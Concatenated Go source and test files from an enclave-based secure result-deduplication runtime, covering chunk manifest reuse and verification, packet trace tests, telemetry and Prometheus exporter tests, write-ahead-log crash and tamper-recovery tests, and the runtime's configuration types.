			prs, oerr := rt.clientPutBatch(tc, items)
			if oerr != nil {
				return oerr
			}
			for _, pr := range prs {
				if !pr.OK {
					// A rejected chunk would leave the manifest referencing
					// a hole; don't install it. The caller already has its
					// result — only future reuse is lost.
					return fmt.Errorf("%w: chunk put: %s", ErrPutRejected, pr.Err)
				}
			}
		}
		return rt.storePut(tc, tag, manSealed, replace)
	})
	span.end(phaseStorePut)
	if err != nil {
		return err
	}

	for i := range chunks {
		rt.chunkCache.add(ctags[i], chunks[i])
	}
	rt.mu.Lock()
	rt.stats.ChunkedPuts++
	rt.stats.ChunksSkipped += int64(skipped)
	rt.mu.Unlock()
	return nil
}

// manifestReuse serves a hit whose primary-tag entry is a sealed
// manifest: decrypt the manifest under the derived identity, fetch
// only the chunks the local cache misses with one BatchGet, decrypt
// and verify each against its manifest hash, reassemble, and verify
// the whole-result digest. Any failure past manifest decryption means
// the stored data is unusable and the caller recomputes loudly;
// errNoManifest alone means the entry was never a manifest.
func (rt *Runtime) manifestReuse(id mle.FuncID, input []byte, tc wire.TraceContext, sealed mle.Sealed) ([]byte, error) {
	enc, err := rt.cfg.Scheme.Decrypt(chunk.ManifestFuncID(id), input, sealed)
	if err != nil {
		if errors.Is(err, mle.ErrAuthFailed) {
			return nil, errNoManifest
		}
		return nil, fmt.Errorf("decrypt manifest: %w", err)
	}
	man, err := chunk.DecodeManifest(enc)
	if err != nil {
		return nil, fmt.Errorf("decode manifest: %w", err)
	}

	cid := chunk.ContentFuncID(id)
	parts := make([][]byte, len(man.Refs))
	var missingTags []mle.Tag
	var missingIdx []int
	cacheHits := 0
	for i, ref := range man.Refs {
		t := chunk.Tag(cid, ref.Hash)
		if data, ok := rt.chunkCache.get(t); ok && len(data) == int(ref.Length) {
			parts[i] = data
			cacheHits++
			continue
		}
		missingTags = append(missingTags, t)
		missingIdx = append(missingIdx, i)
	}

	if len(missingTags) > 0 {
		var got []wire.GetResult
		gerr := rt.cfg.Enclave.OCall(func() error {
			var oerr error
			got, oerr = rt.clientGetBatch(tc, missingTags)
			return oerr
		})
		if gerr != nil {
			return nil, fmt.Errorf("fetch chunks: %w", gerr)
		}
		rt.noteStoreSuccess()
		for j, r := range got {
			i := missingIdx[j]
			ref := man.Refs[i]
			if !r.Found {
				return nil, fmt.Errorf("chunk %d/%d missing from store", i+1, len(man.Refs))
			}
			data, derr := rt.cfg.Scheme.Decrypt(cid, ref.Hash[:], r.Sealed)
			if derr != nil {
				return nil, fmt.Errorf("decrypt chunk %d/%d: %w", i+1, len(man.Refs), derr)
			}
			if len(data) != int(ref.Length) || chunk.Hash(data) != ref.Hash {
				return nil, fmt.Errorf("chunk %d/%d failed content verification", i+1, len(man.Refs))
			}
			parts[i] = data
			rt.chunkCache.add(chunk.Tag(cid, ref.Hash), data)
		}
	}

	out := make([]byte, 0, man.Total)
	for _, p := range parts {
		out = append(out, p...)
	}
	if uint64(len(out)) != man.Total || chunk.DigestOf(out) != man.Digest {
		return nil, errors.New("reassembled result failed digest verification")
	}
	rt.mu.Lock()
	rt.stats.ChunksFetched += int64(len(missingTags))
	rt.stats.ChunkCacheHits += int64(cacheHits)
	rt.mu.Unlock()
	return out, nil
}
