package workload

import (
	"bytes"
	"errors"
	"io"
	"testing"
)

func TestTraceRoundTrip(t *testing.T) {
	src := New(1)
	pkts := make([][]byte, 20)
	for i := range pkts {
		pkts[i] = src.Packet(100+i*13, nil, 0)
	}

	var buf bytes.Buffer
	tw := NewTraceWriter(&buf)
	for _, p := range pkts {
		if err := tw.WritePacket(p); err != nil {
			t.Fatalf("WritePacket: %v", err)
		}
	}
	if tw.Count() != len(pkts) {
		t.Errorf("Count = %d, want %d", tw.Count(), len(pkts))
	}
	if err := tw.Flush(); err != nil {
		t.Fatalf("Flush: %v", err)
	}

	got, err := ReadAllPackets(&buf)
	if err != nil {
		t.Fatalf("ReadAllPackets: %v", err)
	}
	if len(got) != len(pkts) {
		t.Fatalf("read %d packets, want %d", len(got), len(pkts))
	}
	for i := range pkts {
		if !bytes.Equal(got[i], pkts[i]) {
			t.Fatalf("packet %d differs", i)
		}
	}
}

func TestTraceEmpty(t *testing.T) {
	var buf bytes.Buffer
	tw := NewTraceWriter(&buf)
	if err := tw.Flush(); err != nil {
		t.Fatalf("Flush: %v", err)
	}
	got, err := ReadAllPackets(&buf)
	if err != nil {
		t.Fatalf("ReadAllPackets: %v", err)
	}
	if len(got) != 0 {
		t.Errorf("read %d packets from empty trace", len(got))
	}
}

func TestTraceIterator(t *testing.T) {
	var buf bytes.Buffer
	tw := NewTraceWriter(&buf)
	if err := tw.WritePacket([]byte("one")); err != nil {
		t.Fatalf("WritePacket: %v", err)
	}
	if err := tw.WritePacket(nil); err != nil { // zero-length packet
		t.Fatalf("WritePacket: %v", err)
	}
	if err := tw.Flush(); err != nil {
		t.Fatalf("Flush: %v", err)
	}
	tr := NewTraceReader(&buf)
	p1, err := tr.Next()
	if err != nil || string(p1) != "one" {
		t.Fatalf("Next 1 = (%q, %v)", p1, err)
	}
	p2, err := tr.Next()
	if err != nil || len(p2) != 0 {
		t.Fatalf("Next 2 = (%q, %v)", p2, err)
	}
	if _, err := tr.Next(); !errors.Is(err, io.EOF) {
		t.Fatalf("Next 3 = %v, want EOF", err)
	}
}

func TestTraceRejectsMalformed(t *testing.T) {
	var good bytes.Buffer
	tw := NewTraceWriter(&good)
	_ = tw.WritePacket([]byte("payload"))
	_ = tw.Flush()
	raw := good.Bytes()

	cases := map[string][]byte{
		"empty":           nil,
		"bad magic":       append([]byte("XXXX"), raw[4:]...),
		"truncated len":   raw[:5],
		"truncated body":  raw[:len(raw)-2],
		"oversized claim": {'S', 'P', 'T', '1', 0xFF, 0xFF, 0xFF, 0xFF},
	}
	for name, data := range cases {
		if _, err := ReadAllPackets(bytes.NewReader(data)); err == nil {
			t.Errorf("%s: accepted malformed trace", name)
		}
	}
}

func TestTraceRejectsOversizedWrite(t *testing.T) {
	tw := NewTraceWriter(&bytes.Buffer{})
	if err := tw.WritePacket(make([]byte, maxTracePacket+1)); err == nil {
		t.Error("WritePacket accepted oversized packet")
	}
}
