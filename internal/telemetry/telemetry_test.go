package telemetry

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestCounterGauge(t *testing.T) {
	r := NewRegistry()
	c := r.NewCounter("test_ops_total", "ops")
	c.Inc()
	c.Add(4)
	c.Add(-3) // ignored: counters are monotone
	if got := c.Value(); got != 5 {
		t.Fatalf("counter = %d, want 5", got)
	}
	g := r.NewGauge("test_depth", "depth")
	g.Set(7)
	g.Add(-2)
	if got := g.Value(); got != 5 {
		t.Fatalf("gauge = %d, want 5", got)
	}
}

func TestNilRegistryAndMetricsAreNoOps(t *testing.T) {
	var r *Registry
	c := r.NewCounter("x", "")
	g := r.NewGauge("x", "")
	h := r.NewHistogram("x", "")
	cf := r.NewCounterFunc("x", "", func() int64 { return 9 })
	gf := r.NewGaugeFunc("x", "", func() float64 { return 9 })
	c.Inc()
	g.Set(3)
	h.Observe(time.Second)
	r.Trace().Add(TraceEvent{})
	if c.Value() != 0 || g.Value() != 0 || h.Snapshot().Count != 0 ||
		cf.Value() != 0 || gf.Value() != 0 || r.Trace().Total() != 0 {
		t.Fatal("nil metrics must observe nothing")
	}
	if err := r.WritePrometheus(&strings.Builder{}); err != nil {
		t.Fatal(err)
	}
}

func TestRegistrationIdempotent(t *testing.T) {
	r := NewRegistry()
	a := r.NewCounter("dup_total", "", L("k", "v"))
	b := r.NewCounter("dup_total", "", L("k", "v"))
	if a != b {
		t.Fatal("same full name must return the same counter")
	}
	other := r.NewCounter("dup_total", "", L("k", "w"))
	if other == a {
		t.Fatal("different labels must be a different counter")
	}
	defer func() {
		if recover() == nil {
			t.Fatal("re-registering a counter name as a histogram must panic")
		}
	}()
	r.NewHistogram("dup_total", "", L("k", "v"))
}

func TestFuncMetricsAccumulate(t *testing.T) {
	r := NewRegistry()
	r.NewCounterFunc("acc_total", "", func() int64 { return 3 })
	c := r.NewCounterFunc("acc_total", "", func() int64 { return 4 })
	if got := c.Value(); got != 7 {
		t.Fatalf("accumulated counter func = %d, want 7", got)
	}
	r.NewGaugeFunc("acc_gauge", "", func() float64 { return 1.5 })
	g := r.NewGaugeFunc("acc_gauge", "", func() float64 { return 2.5 })
	if got := g.Value(); got != 4 {
		t.Fatalf("accumulated gauge func = %v, want 4", got)
	}
}

func TestHistogramQuantiles(t *testing.T) {
	r := NewRegistry()
	h := r.NewHistogram("lat_seconds", "latency")
	for i := 0; i < 100; i++ {
		h.Observe(time.Duration(i+1) * time.Microsecond)
	}
	s := h.Snapshot()
	if s.Count != 100 {
		t.Fatalf("count = %d, want 100", s.Count)
	}
	wantSum := float64(100*101/2) * 1e-6
	if diff := s.SumSeconds - wantSum; diff > 1e-9 || diff < -1e-9 {
		t.Fatalf("sum = %v, want %v", s.SumSeconds, wantSum)
	}
	// Log-bucketed estimates: p50 of 1..100µs is ~50µs; the bucket
	// [32768,65535]ns bounds the estimate within a factor of two.
	if s.P50 < 30e-6 || s.P50 > 70e-6 {
		t.Fatalf("p50 = %v, want ~50µs", s.P50)
	}
	if s.P95 < s.P50 || s.P99 < s.P95 {
		t.Fatalf("quantiles must be monotone: p50=%v p95=%v p99=%v", s.P50, s.P95, s.P99)
	}
	if s.P99 > 200e-6 {
		t.Fatalf("p99 = %v, want ~100µs", s.P99)
	}
}

// TestSnapshotConsistency hammers a histogram and counters from many
// goroutines while snapshotting, asserting the invariant the snapshot
// layer guarantees: a histogram's count always equals the sum of its
// buckets, and quantiles stay within the observed range.
func TestSnapshotConsistency(t *testing.T) {
	r := NewRegistry()
	h := r.NewHistogram("conc_seconds", "")
	c := r.NewCounter("conc_total", "")
	const workers, perWorker = 8, 2000
	var wg sync.WaitGroup
	stop := make(chan struct{})
	go func() {
		for {
			select {
			case <-stop:
				return
			default:
			}
			s := h.Snapshot()
			var bucketTotal int64
			for i, b := range s.Buckets {
				if i > 0 && b.Count < s.Buckets[i-1].Count {
					t.Error("cumulative bucket counts must be monotone")
					return
				}
				bucketTotal = b.Count
			}
			if bucketTotal != s.Count {
				t.Errorf("bucket sum %d != count %d", bucketTotal, s.Count)
				return
			}
		}
	}()
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				h.Observe(time.Duration(w*perWorker+i) * time.Nanosecond)
				c.Inc()
			}
		}(w)
	}
	wg.Wait()
	close(stop)
	s := r.Snapshot()
	if got := s.Counter("conc_total"); got != workers*perWorker {
		t.Fatalf("counter = %d, want %d", got, workers*perWorker)
	}
	hs, ok := s.Histogram("conc_seconds")
	if !ok || hs.Count != workers*perWorker {
		t.Fatalf("histogram count = %d (ok=%v), want %d", hs.Count, ok, workers*perWorker)
	}
}

func TestTraceRing(t *testing.T) {
	ring := NewTraceRing(4)
	for i := 0; i < 6; i++ {
		ring.Add(TraceEvent{Name: "execute", ID: fmt.Sprint(i)})
	}
	events := ring.Events()
	if len(events) != 4 {
		t.Fatalf("len = %d, want 4", len(events))
	}
	for i, want := range []string{"5", "4", "3", "2"} {
		if events[i].ID != want {
			t.Fatalf("events[%d].ID = %s, want %s (newest first)", i, events[i].ID, want)
		}
	}
	if ring.Total() != 6 {
		t.Fatalf("total = %d, want 6", ring.Total())
	}
}

func TestWritePrometheus(t *testing.T) {
	r := NewRegistry()
	r.NewCounter("speed_test_ops_total", "test ops", L("op", "get")).Add(3)
	r.NewCounter("speed_test_ops_total", "test ops", L("op", "put")).Add(2)
	r.NewGaugeFunc("speed_test_depth", "queue depth", func() float64 { return 1.5 })
	h := r.NewHistogram("speed_test_seconds", "latency", L("phase", "tag"))
	h.Observe(3 * time.Microsecond)
	h.Observe(5 * time.Millisecond)

	var b strings.Builder
	if err := r.WritePrometheus(&b); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{
		"# TYPE speed_test_ops_total counter",
		`speed_test_ops_total{op="get"} 3`,
		`speed_test_ops_total{op="put"} 2`,
		"# TYPE speed_test_depth gauge",
		"speed_test_depth 1.5",
		"# TYPE speed_test_seconds histogram",
		`speed_test_seconds_bucket{phase="tag",le="+Inf"} 2`,
		`speed_test_seconds_count{phase="tag"} 2`,
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("exposition missing %q in:\n%s", want, out)
		}
	}
	// HELP/TYPE headers must appear once per family, not per label set.
	if strings.Count(out, "# TYPE speed_test_ops_total counter") != 1 {
		t.Fatalf("duplicate family header in:\n%s", out)
	}
}

func TestHTTPHandler(t *testing.T) {
	r := NewRegistry()
	r.NewCounter("speed_http_total", "").Inc()
	r.Trace().Add(TraceEvent{Name: "execute", Outcome: "reused", TotalNS: 42,
		Phases: []PhaseSpan{{Name: "tag", StartNS: 0, DurNS: 10}}})
	srv := httptest.NewServer(r.Handler())
	defer srv.Close()

	get := func(path string) (int, string) {
		resp, err := http.Get(srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var b strings.Builder
		if _, err := fmt.Fprint(&b, readAll(t, resp)); err != nil {
			t.Fatal(err)
		}
		return resp.StatusCode, b.String()
	}
	if code, body := get("/metrics"); code != 200 || !strings.Contains(body, "speed_http_total 1") {
		t.Fatalf("/metrics code=%d body=%q", code, body)
	}
	if code, body := get("/debug/trace"); code != 200 || !strings.Contains(body, `"outcome": "reused"`) {
		t.Fatalf("/debug/trace code=%d body=%q", code, body)
	}
	if code, body := get("/debug/vars"); code != 200 || !strings.Contains(body, "speed_http_total") {
		t.Fatalf("/debug/vars code=%d body=%q", code, body)
	}
}

func readAll(t *testing.T, resp *http.Response) string {
	t.Helper()
	var b strings.Builder
	buf := make([]byte, 4096)
	for {
		n, err := resp.Body.Read(buf)
		b.Write(buf[:n])
		if err != nil {
			return b.String()
		}
	}
}
