package logengine

import (
	"errors"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"speed/internal/enclave"
	storeengine "speed/internal/store/engine"
)

// copyDir clones a data directory so each simulated crash point gets
// its own filesystem state.
func copyDir(t *testing.T, src, dst string) {
	t.Helper()
	if err := os.MkdirAll(dst, 0o700); err != nil {
		t.Fatalf("MkdirAll: %v", err)
	}
	des, err := os.ReadDir(src)
	if err != nil {
		t.Fatalf("ReadDir: %v", err)
	}
	for _, de := range des {
		data, err := os.ReadFile(filepath.Join(src, de.Name()))
		if err != nil {
			t.Fatalf("ReadFile: %v", err)
		}
		if err := os.WriteFile(filepath.Join(dst, de.Name()), data, 0o600); err != nil {
			t.Fatalf("WriteFile: %v", err)
		}
	}
}

// TestWALTruncatedAtEveryByte is the exhaustive torn-write harness:
// the WAL is cut at every byte offset — not just frame boundaries —
// and each truncated state is recovered. The invariant is atomicity
// per record: recovery yields exactly the records whose frames are
// fully intact, each bit-identical to what was written, and never a
// partial or corrupted entry. Monotonicity must hold too: a longer
// prefix never recovers fewer records.
func TestWALTruncatedAtEveryByte(t *testing.T) {
	p := testPlatform()
	srcDir := t.TempDir()
	e := openTest(t, testConfig(t, p, srcDir))
	const n = 6
	for i := 0; i < n; i++ {
		mustInsert(t, e, fmt.Sprintf("k%d", i), fmt.Sprintf("value-%d", i))
	}
	e.Crash() // everything stays in the WAL: no flush happened

	walPath := filepath.Join(srcDir, walName)
	full, err := os.ReadFile(walPath)
	if err != nil {
		t.Fatalf("read wal: %v", err)
	}
	if len(full) == 0 {
		t.Fatal("wal is empty; nothing to truncate")
	}

	scratch := t.TempDir()
	prevRecovered := -1
	for cut := 0; cut <= len(full); cut++ {
		dir := filepath.Join(scratch, fmt.Sprintf("cut-%05d", cut))
		copyDir(t, srcDir, dir)
		if err := os.WriteFile(filepath.Join(dir, walName), full[:cut], 0o600); err != nil {
			t.Fatalf("truncate copy: %v", err)
		}

		cfg := testConfig(t, p, dir)
		eng, err := Open(cfg)
		if err != nil {
			t.Fatalf("cut %d: Open failed: %v", cut, err)
		}
		recovered := 0
		for i := 0; i < n; i++ {
			rec, status, err := eng.Get(tagOf(fmt.Sprintf("k%d", i)))
			if err != nil {
				t.Fatalf("cut %d: Get(k%d): %v", cut, i, err)
			}
			switch status {
			case storeengine.StatusHit:
				// All-or-nothing: a recovered record must be exactly
				// what was written.
				if got, want := string(rec.Blob), fmt.Sprintf("value-%d", i); got != want {
					t.Fatalf("cut %d: k%d recovered corrupt blob %q, want %q", cut, i, got, want)
				}
				if string(rec.Challenge) != "challenge-16byte" || string(rec.WrappedKey) != "wrappedkey16byte" {
					t.Fatalf("cut %d: k%d recovered corrupt metadata", cut, i)
				}
				recovered++
			case storeengine.StatusMiss:
				// Acceptable only for the torn suffix: records append in
				// order, so a miss after a hit would mean a hole.
			default:
				t.Fatalf("cut %d: Get(k%d) status = %v", cut, i, status)
			}
		}
		// Records were appended in key order, so the recovered set must
		// be a prefix: k0..k(recovered-1) hits, the rest misses.
		for i := 0; i < recovered; i++ {
			if _, status, _ := eng.Get(tagOf(fmt.Sprintf("k%d", i))); status != storeengine.StatusHit {
				t.Fatalf("cut %d: recovered set has a hole at k%d", cut, i)
			}
		}
		if recovered < prevRecovered {
			t.Fatalf("cut %d: recovered %d records, but cut %d recovered %d (longer prefix lost data)",
				cut, recovered, cut-1, prevRecovered)
		}
		prevRecovered = recovered
		if eng.Len() != recovered {
			t.Fatalf("cut %d: Len = %d, want %d", cut, eng.Len(), recovered)
		}
		// The engine must stay writable after recovering a torn log.
		if ok, err := eng.Insert(tagOf(fmt.Sprintf("post-%d", cut)), recOf("post")); err != nil || !ok {
			t.Fatalf("cut %d: post-recovery Insert: %v %v", cut, ok, err)
		}
		eng.Close()
		os.RemoveAll(dir)
	}
	if prevRecovered != n {
		t.Fatalf("full wal recovered %d records, want %d", prevRecovered, n)
	}
}

// TestCrashDuringCompaction snapshots the directory at the most
// delicate compaction point — output segment written and fsynced, old
// manifest still live — and recovers from it: the orphan output is
// deleted and every record is served from the old segments.
func TestCrashDuringCompaction(t *testing.T) {
	p := testPlatform()
	srcDir := t.TempDir()
	e := openTest(t, testConfig(t, p, srcDir))
	const n = 8
	for i := 0; i < n; i++ {
		mustInsert(t, e, fmt.Sprintf("k%d", i), fmt.Sprintf("v%d", i))
		if err := e.Checkpoint(); err != nil {
			t.Fatalf("Checkpoint: %v", err)
		}
	}
	if e.Stats().Segments != n {
		t.Fatalf("want %d segments, got %d", n, e.Stats().Segments)
	}

	crashDir := t.TempDir()
	e.compactHook = func() {
		// The merged segment exists on disk; the manifest does not
		// mention it yet. This is the crash image.
		copyDir(t, srcDir, crashDir)
	}
	if err := e.CompactNow(); err != nil {
		t.Fatalf("CompactNow: %v", err)
	}
	e.Close()

	// Recover from the mid-compaction image.
	eng := openTest(t, testConfig(t, p, crashDir))
	if got := eng.Stats().Segments; got != n {
		t.Errorf("recovered with %d segments, want the %d pre-compaction ones", got, n)
	}
	if eng.Len() != n {
		t.Errorf("recovered Len = %d, want %d", eng.Len(), n)
	}
	for i := 0; i < n; i++ {
		mustGet(t, eng, fmt.Sprintf("k%d", i), fmt.Sprintf("v%d", i))
	}
	// The orphan compaction output must be gone.
	des, err := os.ReadDir(crashDir)
	if err != nil {
		t.Fatalf("ReadDir: %v", err)
	}
	segs := 0
	for _, de := range des {
		if _, ok := parseSegmentName(de.Name()); ok {
			segs++
		}
	}
	if segs != n {
		t.Errorf("recovered dir holds %d segment files, want %d (orphan not deleted)", segs, n)
	}
	// And compaction still works after the recovery.
	if err := eng.CompactNow(); err != nil {
		t.Fatalf("post-recovery CompactNow: %v", err)
	}
	if got := eng.Stats().Segments; got != 1 {
		t.Errorf("post-recovery compaction left %d segments, want 1", got)
	}

	// Also recover from the post-commit image: the completed
	// compaction in srcDir (old segments deleted, one merged segment).
	eng2 := openTest(t, testConfig(t, p, srcDir))
	if eng2.Len() != n {
		t.Errorf("post-commit reopen Len = %d, want %d", eng2.Len(), n)
	}
	for i := 0; i < n; i++ {
		mustGet(t, eng2, fmt.Sprintf("k%d", i), fmt.Sprintf("v%d", i))
	}
}

// TestRecoveryRejectsTamperedWAL distinguishes crash damage from
// tampering: flipping a bit inside a frame's payload while fixing up
// its CRC must fail recovery loudly, not silently truncate.
func TestRecoveryRejectsTamperedWAL(t *testing.T) {
	p := testPlatform()
	dir := t.TempDir()
	e := openTest(t, testConfig(t, p, dir))
	mustInsert(t, e, "a", "va")
	mustInsert(t, e, "b", "vb")
	e.Crash()

	walPath := filepath.Join(dir, walName)
	data, err := os.ReadFile(walPath)
	if err != nil {
		t.Fatalf("read wal: %v", err)
	}
	// Flip one payload byte of the first frame and recompute its CRC
	// so the frame passes the integrity check but not authentication.
	tampered := append([]byte(nil), data...)
	tampered[walFrameHeader+10] ^= 0xff
	length := int(uint32(tampered[0])<<24 | uint32(tampered[1])<<16 | uint32(tampered[2])<<8 | uint32(tampered[3]))
	payload := tampered[walFrameHeader : walFrameHeader+length]
	crc := crc32Of(payload)
	tampered[4], tampered[5], tampered[6], tampered[7] = byte(crc>>24), byte(crc>>16), byte(crc>>8), byte(crc)
	if err := os.WriteFile(walPath, tampered, 0o600); err != nil {
		t.Fatalf("write tampered wal: %v", err)
	}

	cfg := testConfig(t, p, dir)
	if eng, err := Open(cfg); err == nil {
		eng.Close()
		t.Fatal("recovery accepted a tampered WAL record")
	}
}

func crc32Of(b []byte) uint32 {
	return crc32.Checksum(b, crcTable)
}

func mustEnclaveBalanced(t *testing.T, enc *enclave.Enclave) {
	t.Helper()
	if used := enc.HeapUsed(); used != 0 {
		t.Errorf("enclave heap leak: %d bytes still allocated", used)
	}
}

// TestEnclaveAccountingBalanced pins that the engine frees what it
// allocates: after inserts, flushes, cache churn and a close, the
// enclave heap returns to zero.
func TestEnclaveAccountingBalanced(t *testing.T) {
	p := testPlatform()
	cfg := testConfig(t, p, t.TempDir())
	cfg.MemtableBytes = 2 << 10
	cfg.CacheBytes = 2 << 10
	enc := cfg.Enclave
	e := openTest(t, cfg)
	for i := 0; i < 50; i++ {
		mustInsert(t, e, fmt.Sprintf("k%d", i), fmt.Sprintf("v%d", i))
	}
	for i := 0; i < 50; i++ {
		mustGet(t, e, fmt.Sprintf("k%d", i), fmt.Sprintf("v%d", i))
	}
	for i := 0; i < 25; i++ {
		if _, found, err := e.Remove(tagOf(fmt.Sprintf("k%d", i))); err != nil || !found {
			t.Fatalf("Remove: %v %v", found, err)
		}
	}
	e.Close()
	mustEnclaveBalanced(t, enc)
}

// TestConcurrentLoadThenCrash drives inserts, checkpoints and
// compactions from concurrent goroutines (the -race build is the
// point), then simulates kill -9 and recovers. The invariant is the
// same as the torn-write harness, under concurrency: every insert
// acknowledged before the crash is present after reopen, bit-identical
// — challenge, wrapped key and blob — no matter whether it was caught
// in the WAL, a flushed segment, or a half-finished compaction.
func TestConcurrentLoadThenCrash(t *testing.T) {
	p := testPlatform()
	dir := t.TempDir()
	e := openTest(t, testConfig(t, p, dir))

	const (
		writers   = 4
		perWriter = 30
	)
	stop := make(chan struct{})
	var churn sync.WaitGroup
	churn.Add(2)
	go func() {
		defer churn.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			if err := e.Checkpoint(); err != nil && !errors.Is(err, storeengine.ErrClosed) {
				t.Errorf("Checkpoint: %v", err)
				return
			}
		}
	}()
	go func() {
		defer churn.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			if err := e.CompactNow(); err != nil && !errors.Is(err, storeengine.ErrClosed) {
				t.Errorf("CompactNow: %v", err)
				return
			}
		}
	}()

	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				key := fmt.Sprintf("w%d-k%d", w, i)
				ok, err := e.Insert(tagOf(key), recOf("val-"+key))
				if err != nil {
					t.Errorf("Insert(%s): %v", key, err)
					return
				}
				if !ok {
					t.Errorf("Insert(%s) reported duplicate", key)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	close(stop)
	churn.Wait()
	if t.Failed() {
		return
	}
	e.Crash()

	eng := openTest(t, testConfig(t, p, dir))
	if got := eng.Len(); got != writers*perWriter {
		t.Errorf("recovered Len = %d, want %d", got, writers*perWriter)
	}
	for w := 0; w < writers; w++ {
		for i := 0; i < perWriter; i++ {
			key := fmt.Sprintf("w%d-k%d", w, i)
			mustGet(t, eng, key, "val-"+key)
		}
	}
	// Recovery must also have left a commit-consistent directory: a
	// second crash-free reopen sees the identical state.
	eng.Crash()
	eng2 := openTest(t, testConfig(t, p, dir))
	if got := eng2.Len(); got != writers*perWriter {
		t.Errorf("second reopen Len = %d, want %d", got, writers*perWriter)
	}
	mustGet(t, eng2, "w0-k0", "val-w0-k0")
}
