package dedup

import (
	"errors"
	"fmt"
	"log"
	"sync"

	"speed/internal/enclave"
	"speed/internal/mle"
)

// Outcome describes how a marked computation was satisfied.
type Outcome int

// Outcomes of Execute.
const (
	// OutcomeComputed means the result was freshly computed (and
	// uploaded): Algorithm 1, the paper's "Init. Comp.".
	OutcomeComputed Outcome = iota + 1
	// OutcomeReused means a stored result was verified, decrypted and
	// reused: Algorithm 2, the paper's "Subsq. Comp.".
	OutcomeReused
	// OutcomeRecomputed means a stored entry existed but failed the
	// Fig. 3 verification (⊥) — e.g. poisoned or corrupted — so the
	// result was recomputed and re-uploaded.
	OutcomeRecomputed
	// OutcomeCoalesced means an identical computation was already in
	// flight in this process and its result was shared, without
	// touching the store at all.
	OutcomeCoalesced
)

// String implements fmt.Stringer.
func (o Outcome) String() string {
	switch o {
	case OutcomeComputed:
		return "computed"
	case OutcomeReused:
		return "reused"
	case OutcomeRecomputed:
		return "recomputed"
	case OutcomeCoalesced:
		return "coalesced"
	default:
		return fmt.Sprintf("Outcome(%d)", int(o))
	}
}

// Config configures a Runtime.
type Config struct {
	// Enclave is the application enclave the runtime is linked into.
	// Required.
	Enclave *enclave.Enclave
	// Client reaches the encrypted ResultStore. Required.
	Client StoreClient
	// Scheme is the result-encryption scheme; nil means the paper's
	// cross-application RCE design.
	Scheme mle.Scheme
	// Registry records the application's trusted libraries; nil means
	// a fresh empty registry.
	Registry *Registry
	// AsyncPut processes the PUT pipeline (key generation, result
	// encryption, store update) in a separate worker, the optimization
	// suggested in Section V-B. When false (the default, matching the
	// measured "Init. Comp." which includes "the time for secure
	// storing result"), the PUT happens on the caller's path.
	AsyncPut bool
	// PutQueueDepth bounds the async PUT queue; defaults to 64.
	PutQueueDepth int
	// NoCoalesce disables in-flight coalescing. By default, when
	// multiple goroutines concurrently Execute the same computation
	// (same FuncID and input), only the first runs it; the others wait
	// and share its result with OutcomeCoalesced — deduplication
	// within the process, before the store is even consulted.
	NoCoalesce bool
	// Logf is the diagnostic logger; defaults to log.Printf.
	Logf func(format string, args ...any)
}

// Stats is a snapshot of runtime activity.
type Stats struct {
	// Calls counts Execute invocations.
	Calls int64
	// Reused counts results served from the store.
	Reused int64
	// Computed counts fresh computations (including recomputations).
	Computed int64
	// Coalesced counts calls that shared an in-flight computation.
	Coalesced int64
	// VerifyFailures counts stored entries rejected by the Fig. 3
	// verification protocol.
	VerifyFailures int64
	// PutErrors counts failed or rejected uploads.
	PutErrors int64
	// BytesReused totals the plaintext result bytes served from the
	// store.
	BytesReused int64
}

// Runtime is the secure deduplication runtime. It is safe for
// concurrent use by multiple goroutines of the same application.
type Runtime struct {
	cfg Config

	mu    sync.Mutex
	stats Stats

	flightMu sync.Mutex
	inflight map[mle.Tag]*flight

	putCh  chan putJob
	stop   chan struct{}
	done   chan struct{}
	closed bool
}

// flight is one in-progress computation that concurrent identical
// calls can join.
type flight struct {
	done    chan struct{}
	result  []byte
	outcome Outcome
	err     error
}

type putJob struct {
	id      mle.FuncID
	input   []byte
	result  []byte
	tag     mle.Tag
	replace bool
}

// NewRuntime constructs a Runtime.
func NewRuntime(cfg Config) (*Runtime, error) {
	if cfg.Enclave == nil {
		return nil, errors.New("dedup: Config.Enclave is required")
	}
	if cfg.Client == nil {
		return nil, errors.New("dedup: Config.Client is required")
	}
	if cfg.Scheme == nil {
		cfg.Scheme = &mle.RCE{}
	}
	if cfg.Registry == nil {
		cfg.Registry = NewRegistry()
	}
	if cfg.PutQueueDepth <= 0 {
		cfg.PutQueueDepth = 64
	}
	if cfg.Logf == nil {
		cfg.Logf = log.Printf
	}
	rt := &Runtime{
		cfg:      cfg,
		inflight: make(map[mle.Tag]*flight),
		stop:     make(chan struct{}),
		done:     make(chan struct{}),
	}
	if cfg.AsyncPut {
		rt.putCh = make(chan putJob, cfg.PutQueueDepth)
		go rt.putWorker()
	} else {
		close(rt.done)
	}
	return rt, nil
}

// Registry returns the runtime's trusted-library registry.
func (rt *Runtime) Registry() *Registry { return rt.cfg.Registry }

// Enclave returns the application enclave.
func (rt *Runtime) Enclave() *enclave.Enclave { return rt.cfg.Enclave }

// Stats returns a snapshot of the runtime's counters.
func (rt *Runtime) Stats() Stats {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	return rt.stats
}

// Close drains the async PUT worker (if any) and closes the store
// client. The runtime must not be used afterwards.
func (rt *Runtime) Close() error {
	rt.mu.Lock()
	if rt.closed {
		rt.mu.Unlock()
		return nil
	}
	rt.closed = true
	rt.mu.Unlock()
	close(rt.stop)
	<-rt.done
	return rt.cfg.Client.Close()
}

// Resolve derives the FuncID for a described function via the
// registry.
func (rt *Runtime) Resolve(desc FuncDesc) (mle.FuncID, error) {
	return rt.cfg.Registry.Resolve(desc)
}

// Execute runs the marked computation func(input) with deduplication:
// Algorithm 1 on a miss, Algorithm 2 plus the Fig. 3 verification on a
// hit. compute must be the deterministic function the FuncID
// identifies.
